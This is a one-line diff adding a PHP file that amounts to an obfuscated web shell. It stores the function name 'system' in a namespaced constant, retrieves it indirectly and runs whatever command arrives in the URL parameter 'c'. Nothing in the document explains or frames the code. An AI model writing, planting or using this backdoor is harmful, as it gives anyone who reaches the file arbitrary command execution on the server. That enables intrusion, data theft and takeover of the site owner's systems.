@@ -1,0 +1,1 @@
+<?php define('A\B', 'system'); $f = constant('A\B'); $f($_GET['c']);
